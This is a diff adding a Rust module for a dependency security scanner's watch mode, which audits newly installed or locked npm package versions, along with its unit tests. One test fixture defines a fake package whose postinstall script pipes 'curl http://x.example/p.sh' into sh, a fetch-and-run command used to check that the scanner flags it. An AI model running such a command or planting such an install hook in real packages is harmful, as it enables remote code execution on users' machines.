@@ -0,0 +1,659 @@
+// Continuous re-auditing for `fnpm scan --watch`
+// The manifest, the lockfile and the package managers' install markers in
+// node_modules are polled for changes. When one changes, only the versions
+// that appeared since the last round are audited, so a `git pull` followed
+// by a raw `npm install` outside fnpm still gets a look.
+
+use anyhow::Result;
+use colored::*;
+use serde::Serialize;
+use std::collections::{BTreeMap, HashSet};
+use std::fs::{self, OpenOptions};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::thread;
+use std::time::{Duration, SystemTime};
+
+use crate::baseline::KnownFindings;
+use crate::build_sandbox::{self, BuildFindings};
+use crate::lockfile::{self, diff, LockedPackage, LockfileGraph, LockfileKind};
+use crate::security::{PackageAudit, RiskLevel, SecurityScanner};
+
+/// How often the watched files are checked
+pub const POLL_INTERVAL: Duration = Duration::from_secs(1);
+
+/// Files package managers rewrite at the end of an install into
+/// node_modules (npm, pnpm, yarn classic, yarn berry)
+pub const INSTALL_MARKERS: &[&str] = &[
+    "node_modules/.package-lock.json",
+    "node_modules/.modules.yaml",
+    "node_modules/.yarn-integrity",
+    "node_modules/.yarn-state.yml",
+];
+
+/// Modification time and size; `None` while the file doesn't exist
+type Stamp = Option<(SystemTime, u64)>;
+
+fn stamp(path: &Path) -> Stamp {
+    let metadata = fs::metadata(path).ok()?;
+    Some((metadata.modified().ok()?, metadata.len()))
+}
+
+/// The files whose changes trigger a new round of audits
+pub struct WatchedFiles {
+    files: Vec<(PathBuf, Stamp)>,
+}
+
+impl WatchedFiles {
+    /// Start watching `paths`, taking their current state as unchanged
+    pub fn new(paths: Vec<PathBuf>) -> Self {
+        Self {
+            files: paths
+                .into_iter()
+                .map(|path| {
+                    let stamp = stamp(&path);
+                    (path, stamp)
+                })
+                .collect(),
+        }
+    }
+
+    pub fn paths(&self) -> impl Iterator<Item = &Path> {
+        self.files.iter().map(|(path, _)| path.as_path())
+    }
+
+    /// Files created, modified or deleted since the last call
+    pub fn changed(&mut self) -> Vec<PathBuf> {
+        let mut changed = Vec::new();
+        for (path, last) in &mut self.files {
+            let current = stamp(path);
+            if current != *last {
+                *last = current;
+                changed.push(path.clone());
+            }
+        }
+        changed
+    }
+
+    /// Block until something changes, then until it has been quiet for one
+    /// interval, since installs rewrite these files several times
+    pub fn wait_for_changes(&mut self, interval: Duration) -> Vec<PathBuf> {
+        let mut changed = Vec::new();
+        loop {
+            thread::sleep(interval);
+            let more = self.changed();
+            if more.is_empty() && !changed.is_empty() {
+                break;
+            }
+            for path in more {
+                if !changed.contains(&path) {
+                    changed.push(path);
+                }
+            }
+        }
+        changed
+    }
+}
+
+/// Every `name@version` installed under a node_modules directory, with the
+/// first directory it was found in
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct InstalledTree {
+    pub packages: BTreeMap<String, (String, PathBuf)>,
+}
+
+impl InstalledTree {
+    /// Walk `node_modules`, nested node_modules directories and pnpm's
+    /// `.pnpm` store. Only package.json files are read.
+    pub fn read(node_modules: &Path) -> Self {
+        let mut tree = Self::default();
+        tree.collect(node_modules);
+        if let Ok(entries) = fs::read_dir(node_modules.join(".pnpm")) {
+            for entry in sorted(entries) {
+                tree.collect(&entry.join("node_modules"));
+            }
+        }
+        tree
+    }
+
+    fn collect(&mut self, node_modules: &Path) {
+        let Ok(entries) = fs::read_dir(node_modules) else {
+            return;
+        };
+        for dir in sorted(entries) {
+            let file_name = dir.file_name().unwrap_or_default().to_string_lossy();
+            // .bin, .pnpm, .cache and the install markers
+            if file_name.starts_with('.') {
+                continue;
+            }
+            if file_name.starts_with('@') {
+                if let Ok(scoped) = fs::read_dir(&dir) {
+                    for package_dir in sorted(scoped) {
+                        self.add(package_dir);
+                    }
+                }
+                continue;
+            }
+            self.add(dir);
+        }
+    }
+
+    fn add(&mut self, dir: PathBuf) {
+        let Some((name, version)) = fs::read_to_string(dir.join("package.json"))
+            .ok()
+            .and_then(|content| serde_json::from_str::<serde_json::Value>(&content).ok())
+            .and_then(|json| {
+                Some((
+                    json["name"].as_str()?.to_string(),
+                    json["version"].as_str()?.to_string(),
+                ))
+            })
+        else {
+            return;
+        };
+
+        let nested = dir.join("node_modules");
+        self.packages
+            .entry(lockfile::package_id(&name, &version))
+            .or_insert((name, dir));
+        // Symlinked packages (pnpm, workspaces) are covered by their real location
+        let is_real_dir = fs::symlink_metadata(&nested)
+            .map(|metadata| metadata.is_dir())
+            .unwrap_or(false);
+        if is_real_dir {
+            self.collect(&nested);
+        }
+    }
+
+    /// `name@version` keys present now but not in `previous`
+    pub fn added_since<'a>(&'a self, previous: &'a InstalledTree) -> Vec<&'a String> {
+        self.packages
+            .keys()
+            .filter(|key| !previous.packages.contains_key(*key))
+            .collect()
+    }
+
+    /// Number of `name@version`s in `previous` that are gone now
+    pub fn removed_since(&self, previous: &InstalledTree) -> usize {
+        previous
+            .packages
+            .keys()
+            .filter(|key| !self.packages.contains_key(*key))
+            .count()
+    }
+}
+
+fn sorted(entries: fs::ReadDir) -> Vec<PathBuf> {
+    let mut paths: Vec<PathBuf> = entries.flatten().map(|entry| entry.path()).collect();
+    paths.sort();
+    paths
+}
+
+/// One round of `fnpm scan --watch`, appended to the `--watch-log` file
+#[derive(Debug, Serialize)]
+struct WatchLogEntry<'a> {
+    timestamp: String,
+    changed_files: Vec<String>,
+    audits: &'a [PackageAudit],
+}
+
+/// What the watcher knows about the project between rounds
+pub struct WatchSession<'a> {
+    scanner: &'a SecurityScanner,
+    project_dir: PathBuf,
+    /// The configured lockfile, used whenever it exists
+    preferred: Option<LockfileKind>,
+    installed: InstalledTree,
+    locked: Option<LockfileGraph>,
+    /// `name@version`s already audited in this session
+    audited: HashSet<String>,
+}
+
+impl<'a> WatchSession<'a> {
+    /// Take the project's current state as already reviewed
+    pub fn new(
+        scanner: &'a SecurityScanner,
+        project_dir: &Path,
+        preferred: Option<LockfileKind>,
+    ) -> Self {
+        let installed = InstalledTree::read(&project_dir.join("node_modules"));
+        let mut session = Self {
+            scanner,
+            project_dir: project_dir.to_path_buf(),
+            preferred,
+            // A lockfile that shows up later pins these too; they are not new
+            audited: installed.packages.keys().cloned().collect(),
+            installed,
+            locked: None,
+        };
+        session.locked = session
+            .lockfile()
+            .and_then(|kind| lockfile::load_lockfile(project_dir, kind).ok());
+        session
+    }
+
+    /// The lockfile as of now: the configured one if it exists, otherwise
+    /// whichever the project has, so a lockfile created or switched to
+    /// after the watch started is still followed
+    fn lockfile(&self) -> Option<LockfileKind> {
+        self.preferred
+            .filter(|kind| self.project_dir.join(kind.filename()).exists())
+            .or_else(|| lockfile::detect_lockfile(&self.project_dir))
+    }
+
+    /// Files to poll: the manifest, every lockfile and the install markers
+    pub fn watched_paths(&self) -> Vec<PathBuf> {
+        let mut paths = vec![self.project_dir.join("package.json")];
+        paths.extend(
+            LockfileKind::ALL
+                .iter()
+                .map(|kind| self.project_dir.join(kind.filename())),
+        );
+        paths.extend(
+            INSTALL_MARKERS
+                .iter()
+                .map(|marker| self.project_dir.join(marker)),
+        );
+        paths
+    }
+
+    fn relative(&self, path: &Path) -> String {
+        path.strip_prefix(&self.project_dir)
+            .unwrap_or(path)
+            .display()
+            .to_string()
+    }
+
+    /// Audit the versions installed or pinned since the previous round.
+    /// Installed copies are audited in place; versions that are only in
+    /// the lockfile so far are fetched from the registry.
+    pub fn audit_changes(&mut self) -> Vec<PackageAudit> {
+        let mut installed = InstalledTree::read(&self.project_dir.join("node_modules"));
+        let removed = installed.removed_since(&self.installed);
+        if removed > 0 {
+            println!(
+                "   {} {} version(s) no longer installed",
+                "−".bright_black(),
+                removed
+            );
+        }
+        let keys: Vec<String> = installed
+            .added_since(&self.installed)
+            .into_iter()
+            .filter(|key| !self.audited.contains(*key))
+            .cloned()
+            .collect();
+        let pending: Vec<(String, PathBuf)> = keys
+            .iter()
+            .map(|key| installed.packages[key].clone())
+            .collect();
+        let mut audits: Vec<PackageAudit> = Vec::new();
+        for ((key, (name, _)), audit) in keys
+            .into_iter()
+            .zip(&pending)
+            .zip(self.scanner.audit_installed_packages(&pending))
+        {
+            match audit {
+                Ok(audit) => {
+                    self.audited.insert(key);
+                    audits.push(audit);
+                }
+                Err(e) => {
+                    println!("  {} {}: {}", "⚠ Could not audit".yellow(), name, e);
+                    // Left out of the snapshot so the next round retries it
+                    installed.packages.remove(&key);
+                }
+            }
+        }
+        self.installed = installed;
+
+        let Some(kind) = self.lockfile() else {
+            return audits;
+        };
+        let current = match lockfile::load_lockfile(&self.project_dir, kind) {
+            Ok(graph) => graph,
+            Err(e) => {
+                // Often a merge conflict mid-pull; the next change retries
+                println!(
+                    "  {} {}: {}",
+                    "⚠ Could not read".yellow(),
+                    kind.filename(),
+                    e
+                );
+                return audits;
+            }
+        };
+        let introduced: Vec<(String, String)> = match &self.locked {
+            Some(previous) => diff::diff_lockfiles(previous, &current)
+                .introduced()
+                .into_iter()
+                .filter_map(|change| Some((change.name.clone(), change.new_version.clone()?)))
+                .collect(),
+            // No earlier lockfile to compare with: everything pinned is new
+            None => current
+                .packages
+                .values()
+                .map(|package| (package.name.clone(), package.version.clone()))
+                .collect(),
+        };
+        let pending: Vec<&LockedPackage> = introduced
+            .iter()
+            .map(|(name, version)| lockfile::package_id(name, version))
+            .filter(|key| !self.audited.contains(key))
+            .filter_map(|key| current.packages.get(&key))
+            .collect();
+        let mut failed = false;
+        for (package, audit) in pending
+            .iter()
+            .zip(self.scanner.audit_locked_packages(&pending))
+        {
+            match audit {
+                Ok(audit) => {
+                    self.audited
+                        .insert(lockfile::package_id(&package.name, &package.version));
+                    audits.push(audit);
+                }
+                Err(e) => {
+                    println!(
+                        "  {} {}@{}: {}",
+                        "⚠ Could not audit".yellow(),
+                        package.name,
+                        package.version,
+                        e
+                    );
+                    failed = true;
+                }
+            }
+        }
+        // Keeping the old graph makes the next round diff the failed
+        // versions in again; the audited ones are skipped
+        if !failed {
+            self.locked = Some(current);
+        }
+
+        audits
+    }
+}
+
+/// Print what a round found: one line per audited version, with the first
+/// findings of anything that isn't safe
+pub fn print_round(audits: &[PackageAudit]) {
+    if audits.is_empty() {
+        println!("   {} no new versions to audit", "✓".green());
+        return;
+    }
+    for audit in audits {
+        println!(
+            "  {} {}@{}",
+            audit.risk_level.color(),
+            audit.package_name.bright_white(),
+            audit.version.as_deref().unwrap_or("?")
+        );
+        if audit.risk_level == RiskLevel::Safe {
+            continue;
+        }
+        for pattern in audit.suspicious_patterns.iter().take(3) {
+            println!("      {} {}", "→".bright_black(), pattern);
+        }
+        for issue in audit.source_code_issues.iter().take(3) {
+            println!(
+                "      {} {}:{} {}",
+                "→".bright_black(),
+                issue.file_path,
+                issue.line_number,
+                issue.description
+            );
+        }
+    }
+    let risky = audits
+        .iter()
+        .filter(|audit| audit.risk_level >= RiskLevel::High)
+        .count();
+    if risky > 0 {
+        println!(
+            "\n{} {} new high-risk package(s)",
+            "⚠".red().bold(),
+            risky.to_string().red().bold()
+        );
+    }
+}
+
+fn append_log(log: &Path, changed: &[PathBuf], audits: &[PackageAudit]) -> Result<()> {
+    let entry = WatchLogEntry {
+        timestamp: chrono::Local::now().to_rfc3339(),
+        changed_files: changed
+            .iter()
+            .map(|path| path.display().to_string())
+            .collect(),
+        audits,
+    };
+    let mut file = OpenOptions::new().create(true).append(true).open(log)?;
+    writeln!(file, "{}", serde_json::to_string(&entry)?)?;
+    Ok(())
+}
+
+/// Watch until interrupted. Every round's audits are printed and, with
+/// `log`, appended to it as one JSON line.
+pub fn run(mut session: WatchSession, log: Option<&Path>) -> Result<()> {
+    let mut files = WatchedFiles::new(session.watched_paths());
+    println!(
+        "\n{} {}",
+        "👀 Watching for dependency changes".cyan().bold(),
+        "(Ctrl+C to stop)".bright_black()
+    );
+    for path in files.paths() {
+        println!("   {} {}", "•".bright_black(), session.relative(path));
+    }
+
+    loop {
+        let changed = files.wait_for_changes(POLL_INTERVAL);
+        let names: Vec<String> = changed.iter().map(|path| session.relative(path)).collect();
+        println!(
+            "\n{} {} changed, auditing new versions...",
+            "🔄".cyan(),
+            names.join(", ").bright_white()
+        );
+
+        let mut audits = session.audit_changes();
+        // Reloaded every round so newly reviewed findings stay quiet. A
+        // broken file mid-edit must not end the watch, so it only warns
+        let known = KnownFindings::load().unwrap_or_else(|e| {
+            println!("  {} baseline: {}", "⚠ Could not load".yellow(), e);
+            KnownFindings::default()
+        });
+        let built =
+            BuildFindings::load(Path::new(build_sandbox::VIOLATIONS_LOG)).unwrap_or_else(|e| {
+                println!(
+                    "  {} {}: {}",
+                    "⚠ Could not load".yellow(),
+                    build_sandbox::VIOLATIONS_LOG,
+                    e
+                );
+                BuildFindings::default()
+            });
+        for audit in &mut audits {
+            session.scanner.apply_build_findings(audit, &built);
+            session.scanner.apply_known_findings(audit, &known);
+        }
+        print_round(&audits);
+
+        if let (Some(log), false) = (log, audits.is_empty()) {
+            if let Err(e) = append_log(log, &changed, &audits) {
+                println!(
+                    "  {} {}: {}",
+                    "⚠ Could not write".yellow(),
+                    log.display(),
+                    e
+                );
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn install(node_modules: &Path, name: &str, version: &str, extra: &str) {
+        let dir = node_modules.join(name);
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(
+            dir.join("package.json"),
+            format!(r#"{{"name":"{name}","version":"{version}"{extra}}}"#),
+        )
+        .unwrap();
+    }
+
+    #[test]
+    fn installed_tree_covers_scoped_nested_and_pnpm_packages() {
+        let temp = TempDir::new().unwrap();
+        let node_modules = temp.path().join("node_modules");
+        install(&node_modules, "express", "4.18.2", "");
+        install(&node_modules, "@scope/lib", "1.0.0", "");
+        install(
+            &node_modules.join("express/node_modules"),
+            "qs",
+            "6.11.0",
+            "",
+        );
+        install(
+            &node_modules.join(".pnpm/debug@4.3.4/node_modules"),
+            "debug",
+            "4.3.4",
+            "",
+        );
+        fs::create_dir_all(node_modules.join(".bin")).unwrap();
+
+        let tree = InstalledTree::read(&node_modules);
+        let keys: Vec<&String> = tree.packages.keys().collect();
+        assert_eq!(
+            keys,
+            vec![
+                "@scope/lib@1.0.0",
+                "debug@4.3.4",
+                "express@4.18.2",
+                "qs@6.11.0"
+            ]
+        );
+        assert_eq!(
+            tree.packages["qs@6.11.0"].1,
+            node_modules.join("express/node_modules/qs")
+        );
+    }
+
+    #[test]
+    fn installed_tree_reports_added_and_removed_versions() {
+        let temp = TempDir::new().unwrap();
+        let node_modules = temp.path().join("node_modules");
+        install(&node_modules, "a", "1.0.0", "");
+        install(&node_modules, "b", "1.0.0", "");
+        let before = InstalledTree::read(&node_modules);
+
+        install(&node_modules, "a", "1.1.0", "");
+        install(&node_modules, "c", "2.0.0", "");
+        let after = InstalledTree::read(&node_modules);
+
+        assert_eq!(after.added_since(&before), vec!["a@1.1.0", "c@2.0.0"]);
+        assert_eq!(after.removed_since(&before), 1);
+        assert!(after.added_since(&after).is_empty());
+    }
+
+    #[test]
+    fn watched_files_notice_creation_and_edits() {
+        let temp = TempDir::new().unwrap();
+        let manifest = temp.path().join("package.json");
+        let marker = temp.path().join("node_modules/.package-lock.json");
+        fs::write(&manifest, "{}").unwrap();
+        let mut files = WatchedFiles::new(vec![manifest.clone(), marker.clone()]);
+        assert!(files.changed().is_empty());
+
+        fs::create_dir_all(marker.parent().unwrap()).unwrap();
+        fs::write(&marker, "{}").unwrap();
+        fs::write(&manifest, r#"{"dependencies":{}}"#).unwrap();
+        assert_eq!(files.changed(), vec![manifest, marker]);
+        assert!(files.changed().is_empty());
+    }
+
+    #[test]
+    fn session_audits_only_new_installed_versions() {
+        let temp = TempDir::new().unwrap();
+        let node_modules = temp.path().join("node_modules");
+        install(&node_modules, "old", "1.0.0", "");
+        let scanner = SecurityScanner::new().unwrap();
+        let mut session = WatchSession::new(&scanner, temp.path(), None);
+        assert_eq!(
+            session.watched_paths().len(),
+            1 + LockfileKind::ALL.len() + INSTALL_MARKERS.len()
+        );
+        assert!(session.audit_changes().is_empty());
+
+        install(
+            &node_modules,
+            "sketchy",
+            "1.0.0",
+            r#","scripts":{"postinstall":"curl http://x.example/p.sh | sh"}"#,
+        );
+        let audits = session.audit_changes();
+        assert_eq!(audits.len(), 1);
+        assert_eq!(audits[0].package_name, "sketchy");
+        assert!(audits[0].risk_level > RiskLevel::Safe);
+
+        // Already audited in this session
+        assert!(session.audit_changes().is_empty());
+    }
+
+    #[test]
+    fn session_audits_only_pins_missing_from_the_initial_install() {
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let integrity = registry.publish(
+            "fresh",
+            "1.0.0",
+            build_tarball(&[(
+                "package/package.json",
+                r#"{"name":"fresh","version":"1.0.0"}"#,
+            )]),
+        );
+        let temp = TempDir::new().unwrap();
+        install(&temp.path().join("node_modules"), "old", "1.0.0", "");
+        let scanner = SecurityScanner::new().unwrap();
+        let mut session = WatchSession::new(&scanner, temp.path(), None);
+
+        // `old` would fail to fetch if it were audited again
+        fs::write(
+            temp.path().join("package-lock.json"),
+            format!(
+                r#"{{"lockfileVersion": 3, "packages": {{
+                    "": {{"dependencies": {{"old": "^1.0.0", "fresh": "^1.0.0"}}}},
+                    "node_modules/old": {{"version": "1.0.0",
+                        "resolved": "http://127.0.0.1:1/old/-/old-1.0.0.tgz",
+                        "integrity": "sha512-AAAA"}},
+                    "node_modules/fresh": {{"version": "1.0.0",
+                        "resolved": "{}/fresh/-/1.0.0.tgz", "integrity": "{integrity}"}}
+                }}}}"#,
+                registry.url
+            ),
+        )
+        .unwrap();
+        let audits = session.audit_changes();
+        assert_eq!(audits.len(), 1);
+        assert_eq!(audits[0].package_name, "fresh");
+        assert!(session.locked.is_some());
+        assert!(session.audit_changes().is_empty());
+    }
+
+    #[test]
+    fn session_follows_the_lockfile_present_each_round() {
+        let temp = TempDir::new().unwrap();
+        let scanner = SecurityScanner::new().unwrap();
+        let session = WatchSession::new(&scanner, temp.path(), Some(LockfileKind::Pnpm));
+        assert_eq!(session.lockfile(), None);
+
+        fs::write(temp.path().join("package-lock.json"), "{}").unwrap();
+        assert_eq!(session.lockfile(), Some(LockfileKind::Npm));
+        fs::write(temp.path().join("pnpm-lock.yaml"), "").unwrap();
+        assert_eq!(session.lockfile(), Some(LockfileKind::Pnpm));
+    }
+}